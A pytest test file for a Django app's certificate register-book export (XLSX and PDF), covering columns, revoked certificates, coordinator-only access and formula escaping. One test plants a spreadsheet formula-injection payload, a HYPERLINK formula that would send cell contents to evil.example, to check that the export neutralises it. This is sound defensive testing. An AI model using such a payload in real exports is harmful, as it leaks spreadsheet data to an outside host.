"""The register book (sổ cấp) per issuing body and year, as XLSX and PDF, for coordinators."""

import io

import openpyxl
import pypdf
import pytest
from django.urls import reverse
from django.utils import timezone

from training import services

pytestmark = pytest.mark.django_db


def _url(body, fmt):
    return reverse("training:register_book_export", args=[body.pk, timezone.localdate().year, fmt])


def test_xlsx_lists_every_number_revoked_ones_too(client, certificate, coordinator, issuing_body):
    new = services.certificate_reissue(
        actor=coordinator, certificate=certificate, reason="Sai tên khóa học."
    )
    client.force_login(coordinator)
    assert issuing_body.name in client.get(reverse("training:register_book")).content.decode()
    response = client.get(_url(issuing_body, "xlsx"))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3)]
    assert rows[0] == [
        "Số vào sổ",
        "Người được cấp",
        "Ngày sinh",
        "Khóa học",
        "Lớp",
        "Quyết định",
        "Xếp loại",
        "Ngày cấp",
        "Ngày hết hạn",
        "Tình trạng",
    ]
    assert [r[0] for r in rows[1:]] == [certificate.number, new.number]
    assert rows[1][1] == "Nguyễn Thị Ánh" and rows[1][2] == "15/03/1985"
    assert rows[1][9].startswith("Đã thu hồi") and rows[2][9] == "Còn hiệu lực"


def test_pdf_has_the_numbers_and_names(client, certificate, coordinator, issuing_body):
    client.force_login(coordinator)
    response = client.get(_url(issuing_body, "pdf"))
    text = pypdf.PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    assert "SỔ CẤP" in text and certificate.number in text and "Nguyễn Thị Ánh" in text


@pytest.mark.parametrize("who", ["officer_a", "learner", "officer_b"])
def test_only_coordinators(client, certificate, issuing_body, who, request):
    client.force_login(request.getfixturevalue(who))
    assert client.get(reverse("training:register_book")).status_code == 404
    assert client.get(_url(issuing_body, "xlsx")).status_code == 404


def test_anonymous_users_log_in(client, issuing_body):
    for url in (reverse("training:register_book"), _url(issuing_body, "pdf")):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/")


def test_an_unknown_format_is_404(client, coordinator, issuing_body):
    client.force_login(coordinator)
    assert client.get(_url(issuing_body, "doc")).status_code == 404


def test_names_and_titles_that_look_like_formulas_stay_text(
    client, certificate, coordinator, issuing_body
):
    from training.models import Certificate

    Certificate.objects.filter(pk=certificate.pk).update(
        holder_name='=HYPERLINK("http://evil.example/?"&A1,"Xem")', course_title="@SUM(1+1)"
    )
    client.force_login(coordinator)
    response = client.get(_url(issuing_body, "xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = [cell for cell in list(sheet.iter_rows(min_row=4))[0]]
    assert row[1].data_type == "s" and row[1].value.startswith("'=")
    assert row[3].data_type == "s" and row[3].value == "'@SUM(1+1)"
